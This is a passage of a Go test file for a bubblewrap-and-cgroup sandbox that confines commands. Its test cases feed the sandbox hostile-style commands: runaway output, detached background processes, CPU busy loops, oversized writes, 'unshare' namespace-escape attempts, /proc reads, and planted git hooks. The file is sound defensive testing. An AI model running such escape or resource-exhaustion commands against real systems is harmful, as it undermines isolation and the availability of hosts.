			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				if len(res.Stdout) != DefaultMaxOutput || !res.Truncated {
					t.Errorf("stdout %d bytes, truncated %v; want exactly %d and truncated", len(res.Stdout), res.Truncated, DefaultMaxOutput)
				}
				full, _ := os.ReadFile(e.wsPath("big.txt"))
				if !bytes.HasSuffix(full, res.Stdout) {
					t.Errorf("stdout is not the tail of the output")
				}
			},
		},
		{
			name: "runtime/runaway-output-endless", argv: sh("yes airlock-runaway-output"),
			pol: testShellPolicy, refuse: "command not allowed: yes", run: true,
			req: func(e *attackEnv, r *ExecRequest) { r.Timeout = time.Second },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if len(res.Stdout) > DefaultMaxOutput || !res.Truncated || !strings.Contains(res.Error, "timeout") {
					t.Errorf("stdout %d bytes, truncated %v, error %q", len(res.Stdout), res.Truncated, res.Error)
				}
			},
		},
		{
			name: "runtime/daemonised-grandchild", argv: sh("sleep " + secs(1) + " & echo started"),
			pol: testShellPolicy, refuse: "background jobs", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				if strings.TrimSpace(string(res.Stdout)) != "started" || res.Duration > 5*time.Second {
					t.Errorf("stdout %q after %s", res.Stdout, res.Duration)
				}
				noProcs(t, "sleep "+secs(1))
			},
		},
		{
			name: "runtime/setsid-daemon", argv: sh("setsid sleep " + secs(2) + " >/dev/null 2>&1 </dev/null & echo started"),
			pol: testShellPolicy, refuse: "background jobs", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				noProcs(t, "sleep "+secs(2))
			},
		},
		{
			name: "runtime/timeout-kills", argv: args("sleep", secs(3)), pol: withPolicy("sleep"),
			req: func(e *attackEnv, r *ExecRequest) { r.Timeout = time.Second },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if res.Duration < time.Second || res.Duration > 3*time.Second {
					t.Errorf("duration %s, want about 1s", res.Duration)
				}
				if res.ExitCode != 137 || !strings.Contains(res.Error, "timeout after 1s") {
					t.Errorf("exit %d, error %q", res.ExitCode, res.Error)
				}
				noProcs(t, "sleep "+secs(3))
			},
		},
		{
			name: "runtime/timeout-kills-background-tree", argv: sh("sleep " + secs(5) + " & sleep " + secs(6)),
			pol: testShellPolicy, refuse: "background jobs", run: true,
			req: func(e *attackEnv, r *ExecRequest) { r.Timeout = time.Second },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if !strings.Contains(res.Error, "timeout") {
					t.Errorf("error %q", res.Error)
				}
				noProcs(t, "sleep "+secs(5))
				noProcs(t, "sleep "+secs(6))
			},
		},
		{
			name: "runtime/cancel-kills", argv: args("sleep", secs(4)), pol: withPolicy("sleep"),
			ctx: func() (context.Context, context.CancelFunc) {
				return context.WithTimeout(context.Background(), 300*time.Millisecond)
			},
			check: func(t *testing.T, e *attackEnv, res Result) {
				if res.Error != "cancelled" || res.Duration > 2*time.Second {
					t.Errorf("error %q after %s", res.Error, res.Duration)
				}
				noProcs(t, "sleep "+secs(4))
			},
		},
		{
			name: "runtime/cpu-limit", argv: sh("while :; do :; done"),
			pol: testShellPolicy, refuse: "control flow", run: true,
			req:  func(e *attackEnv, r *ExecRequest) { r.Timeout = 20 * time.Second },
			opts: func(e *attackEnv, o *RunOptions) { o.CPUTime = time.Second },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if res.Duration > 10*time.Second || res.Error != "" {
					t.Errorf("busy loop ran %s (error %q)", res.Duration, res.Error)
				}
				if res.ExitCode != 128+int(syscall.SIGXCPU) && res.ExitCode != 137 {
					t.Errorf("exit %d, want SIGXCPU or SIGKILL", res.ExitCode)
				}
			},
		},
		{
			name: "runtime/file-size-limit", argv: sh("head -c 3000000 /dev/zero > big.bin"),
			pol: testShellPolicy, refuse: "path outside the workspace: /dev/zero", run: true,
			opts: func(e *attackEnv, o *RunOptions) { o.MaxFileSize = 1 << 20 },
			check: func(t *testing.T, e *attackEnv, res Result) {
				fi, err := os.Stat(e.wsPath("big.bin"))
				if err != nil || fi.Size() > 1<<20 {
					t.Errorf("big.bin: %v, size %d", err, sizeOf(fi))
				}
				if res.ExitCode == 0 {
					t.Errorf("the write past the limit succeeded")
				}
			},
		},
		{
			name: "runtime/no-new-namespaces", argv: sh("unshare -U true || unshare -r true || echo denied"),
			pol: testShellPolicy, refuse: "unshare is not allowed", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				if strings.TrimSpace(string(res.Stdout)) != "denied" {
					t.Errorf("a new namespace could be created: %q %q", res.Stdout, res.Stderr)
				}
			},
		},
		{
			name: "runtime/no-capabilities", argv: args("grep", "-E", "^(CapEff|CapBnd|NoNewPrivs|Seccomp):", "/proc/self/status"),
			refuse: "path outside the workspace: /proc/self/status", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				out := string(res.Stdout)
				for _, want := range []string{"CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
					if !strings.Contains(out, want) {
						t.Errorf("want %q in %q", want, out)
					}
				}
			},
		},
		{
			name: "runtime/host-processes-invisible", argv: args("ls", "/proc"),
			refuse: "path outside the workspace: /proc", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				for _, f := range strings.Fields(string(res.Stdout)) {
					if f == strconv.Itoa(os.Getpid()) || f == strconv.Itoa(os.Getppid()) {
						t.Errorf("host process %s visible", f)
					}
				}
			},
		},
		{
			name: "failclosed/bwrap-missing", argv: sh("touch /workspace/RAN"), pol: testShellPolicy,
			opts:    func(e *attackEnv, o *RunOptions) { o.Bwrap = "/nonexistent/bwrap" },
			wantErr: true,
			check:   func(t *testing.T, e *attackEnv, res Result) { noMarker(t, e, "RAN") },
		},
		{
			name: "failclosed/setup-error", argv: sh("touch /workspace/RAN"), pol: testShellPolicy,
			opts: func(e *attackEnv, o *RunOptions) {
				o.ExtraBinds = []Bind{{Source: filepath.Join(e.outside, "does-not-exist"), Dest: "/opt/x"}}
			},
			wantErr: true,
			check:   func(t *testing.T, e *attackEnv, res Result) { noMarker(t, e, "RAN") },
		},
		{
			name: "failclosed/bad-working-dir", argv: sh("touch /workspace/RAN"), pol: testShellPolicy,
			refuse: "dir: not a directory in the workspace: no/such/dir", run: true,
			req:     func(e *attackEnv, r *ExecRequest) { r.Dir = "no/such/dir" },
			wantErr: true,
			check:   func(t *testing.T, e *attackEnv, res Result) { noMarker(t, e, "RAN") },
		},
	}
}

// --- helpers -------------------------------------------------------------

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// failed asserts the command ran and failed.
func failed(t *testing.T, e *attackEnv, res Result) {
	t.Helper()
	if res.ExitCode == 0 {
		t.Errorf("the command succeeded inside the sandbox")
	}
}

func failedWith(msg string) func(t *testing.T, e *attackEnv, res Result) {
	return func(t *testing.T, e *attackEnv, res Result) {
		t.Helper()
		failed(t, e, res)
		if !bytes.Contains(res.Stderr, []byte(msg)) {
			t.Errorf("stderr %q lacks %q", res.Stderr, msg)
		}
	}
}

func succeeded(t *testing.T, e *attackEnv, res Result) {
	t.Helper()
	if res.ExitCode != 0 || res.Error != "" {
		t.Errorf("want success, got exit %d error %q stderr %q", res.ExitCode, res.Error, res.Stderr)
	}
}

// noMarker asserts a planted program did not run: it would have created
// the marker file in the workspace (the only place it could write).
func noMarker(t *testing.T, e *attackEnv, name string) {
	t.Helper()
	for _, p := range []string{e.wsPath(name), e.wsPath(name + "-rel")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s exists: the planted program ran", filepath.Base(p))
		}
	}
}

// procsWith lists host processes whose command line contains s.
func procsWith(s string) []string {
	entries, _ := os.ReadDir("/proc")
	var out []string
	for _, d := range entries {
		if _, err := strconv.Atoi(d.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", d.Name(), "cmdline"))
		if err != nil || len(b) == 0 {
			continue
		}
		cmd := string(bytes.ReplaceAll(bytes.TrimRight(b, "\x00"), []byte{0}, []byte{' '}))
		if strings.Contains(cmd, s) {
			out = append(out, d.Name()+": "+cmd)
		}
	}
	return out
}

// noProcs asserts no process with s in its command line is left (allowing
// a moment for the kernel to reap what was killed).
func noProcs(t *testing.T, s string) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for {
		left := procsWith(s)
		if len(left) == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Errorf("processes left after Run returned: %v", left)
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	_ = filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		switch {
		case fi.Mode()&os.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[rel] = "link:" + target
		case fi.IsDir():
			out[rel] = "dir"
		default:
			b, _ := os.ReadFile(p)
			out[rel] = string(b)
		}
		return nil
	})
	return out
}

func equalSnap(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

func sizeOf(fi os.FileInfo) int64 {
	if fi == nil {
		return -1
	}
	return fi.Size()
}

// hostGit runs git on the host for test setup, with no user or system
// config and hooks of its own.
func hostGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = []string{
		"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
		"GIT_AUTHOR_NAME=Test", "GIT_AUTHOR_EMAIL=test@example.com",
		"GIT_COMMITTER_NAME=Test", "GIT_COMMITTER_EMAIL=test@example.com",
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// initRepo makes the workspace a git repository with one commit; the
// identity is in the repository's config so commits work in the sandbox.
func initRepo(t *testing.T, dir string) {
	t.Helper()
	hostGit(t, dir, "init", "-q", "-b", "main")
	hostGit(t, dir, "config", "user.name", "Agent")
	hostGit(t, dir, "config", "user.email", "agent@example.com")
	hostGit(t, dir, "add", "-A")
	hostGit(t, dir, "commit", "-q", "-m", "initial")
}

// plantHooks installs hooks that would leave a marker in the workspace.
func plantHooks(t *testing.T, dir string, names ...string) {
	t.Helper()
	for _, n := range names {
		p := filepath.Join(dir, ".git", "hooks", n)
		script := "#!/bin/sh\ntouch /workspace/HOOK-RAN HOOK-RAN-rel\n"
		if err := os.WriteFile(p, []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAbortDuringSetup: when Run gives up while the sandbox waits to be
// released (limits cannot be applied, cancellation), the sandbox is killed
// and the command never runs.
func TestAbortDuringSetup(t *testing.T) {
	requireBwrap(t)
	ws := t.TempDir()
	var blocked int
	testHookSetup = func(pid int) error {
		blocked = pid
		return fmt.Errorf("injected failure")
	}
	defer func() { testHookSetup = nil }()
	_, err := Run(context.Background(), ExecRequest{Argv: []string{"touch", "/workspace/RAN-" + tag}, Workspace: ws}, RunOptions{})
	if err == nil || !strings.Contains(err.Error(), "injected failure") {
		t.Fatalf("want the injected failure, got %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, "RAN-"+tag)); err == nil {
		t.Fatal("the command ran although setup was aborted")
	}
	deadline := time.Now().Add(2 * time.Second)
	for syscall.Kill(blocked, 0) == nil {
		if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", blocked)); bytes.Contains(b, []byte(") Z ")) {
			break // a zombie waiting for its reaper is dead
		}
		if time.Now().After(deadline) {
			t.Fatalf("the blocked sandbox process %d is still alive", blocked)
		}
		time.Sleep(20 * time.Millisecond)
	}
	noProcs(t, "RAN-"+tag)
}

// TestOutputMemoryBounded: a command writing without end costs the worker
// a fixed amount of memory, not memory in proportion to the output.
func TestOutputMemoryBounded(t *testing.T) {
	requireBwrap(t)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	res, err := Run(context.Background(), ExecRequest{
		Argv: []string{"sh", "-c", "yes 0123456789abcdefghijklmnopqrstuvwxyz & yes 0123456789 >&2"}, Workspace: t.TempDir(), Timeout: time.Second,
	}, RunOptions{})
	runtime.ReadMemStats(&after)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Truncated || len(res.Stdout) != DefaultMaxOutput || len(res.Stderr) != DefaultMaxOutput {
		t.Errorf("stdout %d, stderr %d bytes, truncated %v", len(res.Stdout), len(res.Stderr), res.Truncated)
	}
	alloc := after.TotalAlloc - before.TotalAlloc
	t.Logf("%d bytes allocated while the output ran for %s", alloc, res.Duration)
	if alloc > 8<<20 {
		t.Errorf("the run allocated %d bytes", alloc)
	}
}

// requirePidsCgroup fails (never skips) when there is no writable pids
// cgroup, as requireBwrap does without bubblewrap: the tests of the run's
// group need one (a root worker has one; without it, run as root or
// delegate a pids cgroup to the user).
func requirePidsCgroup(t *testing.T) pidsBase {
	t.Helper()
	base := detectPids()
	if base.dir == "" {
		t.Fatal("these tests need a writable pids cgroup (run as root, or delegate one to this user)")
	}
	return base
}

// TestRunCgroupRemovedAfterward: Run returns without waiting for its pids
// cgroup to empty (removeInBackground), and the group is still gone soon
// after, with everything that was in it.
func TestRunCgroupRemovedAfterward(t *testing.T) {
	requireBwrap(t)
	base := requirePidsCgroup(t)
	mine := func() []string {
		m, _ := filepath.Glob(filepath.Join(base.dir, fmt.Sprintf("run-%d-*", os.Getpid())))
		return m
	}
	for range 5 {
		// A duration of this process's own (secs), never another's sleep on
		// the machine: "sleep 30" also matched a "sleep 300" that CI ran.
		res, err := Run(context.Background(), ExecRequest{Argv: []string{"sh", "-c", "sleep " + secs(9) + " & true"}, Workspace: t.TempDir()}, RunOptions{})
		if err != nil || res.ExitCode != 0 {
			t.Fatalf("run: %v %+v", err, res)
		}
	}
	deadline := time.Now().Add(3 * time.Second)
	for len(mine()) > 0 {
		if time.Now().After(deadline) {
			t.Fatalf("run cgroups left behind: %v", mine())
		}
		time.Sleep(10 * time.Millisecond)
	}
	noProcs(t, "sleep "+secs(9))
}

// TestStartInsideStartsInTheGroup: on cgroup v1, a process started through
// startInside is in the run's group from its first instruction, and the
// thread that started it is back where it was (no thread of the worker is
// left in a run's group).
func TestStartInsideStartsInTheGroup(t *testing.T) {
	requireBwrap(t)
	requirePidsCgroup(t)
	g, err := newRunCgroup(8)
	if err != nil {
		t.Fatal(err)
	}
	defer g.remove()
	cmd := exec.Command("sleep", "30")
	if g.v2 { // processes start in the group through CLONE_INTO_CGROUP: startInside declines
		if inside, err := g.startInside(cmd.Start); inside || err != nil || cmd.Process != nil {
			t.Fatalf("cgroup v2: startInside ran start (inside %v, %v)", inside, err)
		}
		return
	}
	inside, err := g.startInside(cmd.Start)
	if err != nil || !inside {
		t.Fatalf("startInside: inside %v, %v", inside, err)
	}
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	if !g.has(cmd.Process.Pid) {
		t.Fatalf("process %d is not in %s (%v)", cmd.Process.Pid, g.dir, g.pids())
	}
	tasks, err := filepath.Glob("/proc/self/task/*/cgroup")
	if err != nil || len(tasks) == 0 {
		t.Fatalf("listing this process's threads: %v", err)
	}
	for _, f := range tasks {
		b, err := os.ReadFile(f)
		if err != nil {
			continue // the thread ended
		}
		if strings.Contains(string(b), filepath.Base(g.dir)) {
			t.Errorf("thread %s is still in the run's group: %s", f, b)
		}
	}
}
